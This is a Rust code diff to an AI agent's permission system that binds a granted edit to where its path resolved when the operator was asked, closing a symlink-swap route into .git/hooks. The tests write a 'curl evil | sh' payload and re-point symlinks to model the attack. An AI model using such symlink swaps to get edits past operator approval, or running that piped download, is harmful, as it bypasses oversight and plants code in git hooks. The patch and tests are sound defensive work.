@@ -209,6 +209,10 @@ pub struct Announced {
     pub tool_call_id: String,
     /// Its edits at the time of asking.
     pub edits: Vec<AnnouncedEdit>,
+    /// Where each edit landed at the time of asking ([`landing`]): what
+    /// the operator and the rules judged. A link re-pointed before the
+    /// decision changes nothing a grant covers.
+    pub lands: Vec<Option<PathBuf>>,
     /// Whether replacements apply to every occurrence.
     pub replace_all: bool,
 }
@@ -262,23 +266,26 @@ impl ToolCalls {
         std::mem::take(&mut self.forgotten)
     }
 
-    /// What a permission about `call` covers once allowed.
-    pub fn announced(id: &str, call: &ToolCall) -> Announced {
+    /// What a permission about `call` covers once allowed, with where each
+    /// edit lands now in workspace `root` (the time of asking).
+    pub fn announced(root: &Path, id: &str, call: &ToolCall) -> Announced {
         Announced {
             tool_call_id: id.to_owned(),
             edits: call.edits.clone(),
+            lands: call.edits.iter().map(|e| landing(root, &e.path)).collect(),
             replace_all: call.replace_all(),
         }
     }
 
-    /// Remembers the edits of an allowed permission with where each lands
-    /// now, in workspace `root`. An edit that lands nowhere inside covers
+    /// Remembers the edits of an allowed permission with where each landed
+    /// when it was asked. An edit that landed nowhere inside covers
     /// nothing: its write is asked for on its own.
-    pub fn grant(&mut self, root: &Path, request: &str, announced: Announced) {
+    pub fn grant(&mut self, request: &str, announced: Announced) {
         let edits: Vec<(AnnouncedEdit, PathBuf)> = announced
             .edits
             .into_iter()
-            .filter_map(|e| landing(root, &e.path).map(|real| (e, real)))
+            .zip(announced.lands)
+            .filter_map(|(e, real)| real.map(|real| (e, real)))
             .collect();
         if edits.is_empty() {
             return;
@@ -896,15 +903,11 @@ mod tests {
 
     fn granted(root: &Path, edits: Vec<AnnouncedEdit>) -> ToolCalls {
         let mut calls = ToolCalls::default();
-        calls.grant(
-            root,
-            "s:req-1",
-            Announced {
-                tool_call_id: "t1".into(),
-                edits,
-                replace_all: false,
-            },
-        );
+        let call = ToolCall {
+            edits,
+            ..ToolCall::default()
+        };
+        calls.grant("s:req-1", ToolCalls::announced(root, "t1", &call));
         calls
     }
 
@@ -1026,6 +1029,31 @@ mod tests {
         std::os::unix::fs::symlink(root.join(".git/hooks"), root.join("out")).expect("relink");
         assert_eq!(
             calls.take_covering(root, Path::new("out/pre-commit"), "", "curl evil | sh\n"),
+            None
+        );
+    }
+
+    #[test]
+    fn a_link_re_pointed_between_asking_and_deciding_covers_nothing() {
+        // Where the edit landed when the operator was asked is what a grant
+        // covers, not where it lands at the decision.
+        let (_dir, root) = workspace();
+        let root = root.as_path();
+        for d in ["notes", ".git/hooks"] {
+            std::fs::create_dir_all(root.join(d)).expect("mkdir");
+        }
+        std::os::unix::fs::symlink(root.join("notes"), root.join("lnk")).expect("link");
+        let call = ToolCall {
+            edits: vec![edit("lnk/post-rewrite", None, "evil\n")],
+            ..ToolCall::default()
+        };
+        let asked = ToolCalls::announced(root, "t1", &call);
+        std::fs::remove_file(root.join("lnk")).expect("unlink");
+        std::os::unix::fs::symlink(root.join(".git/hooks"), root.join("lnk")).expect("relink");
+        let mut calls = ToolCalls::default();
+        calls.grant("s:req-1", asked);
+        assert_eq!(
+            calls.take_covering(root, Path::new("lnk/post-rewrite"), "", "evil\n"),
             None
         );
     }
